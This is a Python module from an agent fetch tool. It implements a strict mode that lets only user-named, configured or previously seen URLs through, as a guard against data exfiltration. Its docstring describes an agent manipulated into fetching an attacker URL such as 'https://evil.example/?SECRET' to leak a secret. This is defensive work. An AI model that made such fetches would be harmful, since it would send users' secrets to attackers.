"""Strict mode for addresses: what may be fetched is what a person named, what a setting lists, or what occurred before.

An agent that has read a secret can be talked into fetching ``https://evil.example/?SECRET``.  It can't where only
addresses pass that it did not make up: those that somebody vouches for, those of ``network.known_urls``, and those
that an earlier result showed (the address itself, where it led, links in its content, hits of a search).  This is what
hosted fetch tools of models do as well.  `KnownUrls` is the memory of one session; `KnownStore` one that lasts, for all
processes of a home.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import re
from collections.abc import Iterable, Mapping
from typing import Any

from cdpfetch import addresses, paths
from cdpfetch.errors import CdpFetchError, ConfigError
from cdpfetch.urls import Url, parse_url

# Addresses that are remembered; the oldest go first.
LIMIT = 200_000
# Of one document: so many addresses, out of so many bytes of each of its bodies.
_PER_DOCUMENT = 5_000
_READ = 4 << 20
_ROLES = frozenset({"content", "text", "links"})
_ADDRESS = re.compile(r"https?://(?:\[[0-9a-f:.]+\])?[^\s<>\"'`\]}|\\^]+", re.IGNORECASE)
_ESCAPED = re.compile(r"\\([!-/:-@\[-`{-~])")
_DIGITS = 32  # of a key, in hex


def key(url: str) -> str | None:
    """What all spellings of an address share (its fragment is not sent anywhere); None for what is no address."""
    try:
        href = parse_url(url).href.partition("#")[0]
    except CdpFetchError:
        return None
    return hashlib.sha256(href.encode("utf-8", "surrogatepass")).hexdigest()[:_DIGITS]


def addresses_in(text: str) -> list[str]:
    """The http(s) addresses that a text shows, Markdown or plain, each once, in order."""
    found: dict[str, None] = {}
    for match in _ADDRESS.finditer(_ESCAPED.sub(r"\1", text)):
        for candidate in _readings(match[0]):
            found[candidate] = None
        if len(found) >= _PER_DOCUMENT:
            break
    return list(found)


def _readings(found: str) -> Iterable[str]:
    """What was meant: a bracket or full stop at the end may belong to the sentence around it."""
    found = found.rstrip(".,;:!?*_~")
    while found.endswith(")") and found.count(")") > found.count("("):
        found = found[:-1].rstrip(".,;:!?*_~")
    yield found
    if "](" in found or ")(" in found:
        yield re.split(r"\]\(|\)\(", found)[0]


class KnownUrls:
    """The addresses that are known.

    ``listed``: those of the settings, each whole or, with ``*`` at its end, a beginning.
    Raises ConfigError for a beginning that names no host.
    """

    def __init__(self, listed: Iterable[str] = (), limit: int = LIMIT) -> None:
        self._limit = limit
        self._keys: dict[str, None] = {}
        self._beginnings: tuple[str, ...] = ()
        for entry in listed:
            if entry.endswith("*"):
                self._beginnings += (_beginning(entry),)
            elif "*" in entry or not self.learn([entry]):
                raise ConfigError(f"network.known_urls: {entry!r} is not an address", _ENTRY_FORMS)

    def __len__(self) -> int:
        return len(self._keys)

    def learn(self, urls: Iterable[str]) -> list[str]:
        """Remember addresses; the keys of those that are new."""
        new = [one for one in dict.fromkeys(map(key, urls)) if one is not None and one not in self._keys]
        self._keys.update(dict.fromkeys(new))
        while len(self._keys) > self._limit:
            del self._keys[next(iter(self._keys))]
        return new

    def learn_document(self, document: Mapping[str, Any]) -> list[str]:
        """Remember what a document that was delivered shows; reads its bodies."""
        found = [document["url"], document.get("link") or document["url"]]
        for body in document.get("bodies", ()):
            if body["role"] in _ROLES:
                with contextlib.suppress(OSError), open(body["path"], "rb") as file:
                    found += addresses_in(file.read(_READ).decode("utf-8", "replace"))
        return self.learn(_vouched_for(found, str(found[1])))

    def knows(self, url: str) -> bool:
        """Whether an address is known."""
        try:
            href = parse_url(url).href
        except CdpFetchError:
            return False
        return key(href) in self._keys or href.startswith(self._beginnings or ("\0",))

    def require(self, url: str, *, plain: bool = True) -> None:
        """Raises CdpFetchError (``blocked_address``) for an address that is not known.

        ``plain``: whether the request says nothing else; headers could carry away what the address can't.
        """
        parse_url(url)
        if not self.knows(url):
            raise CdpFetchError(
                "blocked_address",
                "this address was neither named by the user nor shown by an earlier result, which is all that "
                "network.require_known_url lets pass",
                "fetch a page that links to it, or ask the user to fetch it, or to add it to network.known_urls",
            )
        if not plain:
            raise CdpFetchError(
                "blocked_address",
                "network.require_known_url lets no headers or languages pass that the caller has chosen",
                "leave them out",
            )


class KnownStore(KnownUrls):
    """Known addresses in a private file of the home, one key a line, shared by all who use that home."""

    def __init__(self, path: str, listed: Iterable[str] = (), limit: int = LIMIT) -> None:
        super().__init__(listed, limit)
        self._path = path
        self._read = 0  # bytes of the file that are in memory
        self._file = 0  # its inode

    def learn(self, urls: Iterable[str]) -> list[str]:
        """As in memory, and for good.  Raises CdpFetchError (``config_error``), OSError."""
        new = super().learn(urls)
        if new and hasattr(self, "_path"):  # what the settings list is not written
            with open(paths.open_private(self._path, os.O_WRONLY | os.O_APPEND), "wb") as file:
                file.write("".join(f"{one}\n" for one in new).encode("ascii"))
        return new

    def refresh(self) -> None:
        """Take in what others have learned; a file that has grown beyond its bounds is written anew."""
        try:
            size, inode = os.path.getsize(self._path), os.stat(self._path, follow_symlinks=False).st_ino
        except OSError:
            return
        if inode != self._file or size < self._read:
            self._file, self._read = inode, 0
        if size == self._read:
            return
        with open(paths.open_private(self._path, os.O_RDONLY), "rb") as file:
            file.seek(self._read)
            data = file.read(size - self._read)
        whole = data.rfind(b"\n") + 1
        self._read += whole
        self._keys.update(dict.fromkeys(line for line in data[:whole].decode("ascii", "replace").split()))
        while len(self._keys) > self._limit:
            del self._keys[next(iter(self._keys))]
        if self._read > 2 * self._limit * (_DIGITS + 1):
            self._shorten()

    def _shorten(self) -> None:
        waiting = f"{self._path}.{os.getpid()}"
        with contextlib.suppress(FileNotFoundError):
            os.unlink(waiting)
        with open(paths.open_private(waiting, os.O_WRONLY | os.O_EXCL), "wb") as file:
            file.write("".join(f"{one}\n" for one in self._keys).encode("ascii"))
        os.replace(waiting, self._path)


_ENTRY_FORMS = (
    "allowed: a whole address, or the beginning of one with its host and a slash, as in https://example.com/*"
)


def _beginning(entry: str) -> str:
    """The canonical beginning that an entry with ``*`` stands for."""
    text = entry[:-1]
    if "*" in text or text.partition("://")[2].count("/") == 0:
        raise ConfigError(f"network.known_urls: {entry!r} names no host and path", _ENTRY_FORMS)
    try:
        return parse_url(text).href
    except CdpFetchError as error:
        raise ConfigError(f"network.known_urls: {entry!r}: {error.reason}", _ENTRY_FORMS) from None


def _vouched_for(urls: list[str], source: str) -> list[str]:
    """Of the addresses in a document those that it may make known: from this machine, where the agent itself may have
    written it, only those of the same server.
    """
    try:
        home = parse_url(source)
    except CdpFetchError:
        return []
    if not _is_loopback(home):
        return urls
    return [url for url in urls if _server(url) == (home.host, home.port)]


def _is_loopback(url: Url) -> bool:
    address = addresses.parse(url.host)
    if address is None:
        return url.host == "localhost" or url.host.endswith(".localhost")
    return addresses.classify(address).kind == addresses.LOOPBACK


def _server(url: str) -> tuple[str, int] | None:
    try:
        parsed = parse_url(url)
    except CdpFetchError:
        return None
    return parsed.host, parsed.port


def blurred(error: CdpFetchError) -> CdpFetchError:
    """The error as it may be told in strict mode: a name that does not exist and one that leads inside look alike."""
    if error.code not in ("dns_failed", "blocked_address"):
        return error
    return CdpFetchError(
        "blocked_address",
        "there is no public address behind this name (or behind what it leads to)",
        "which of both it was is told to the user only: cdpfetch logs",
    )
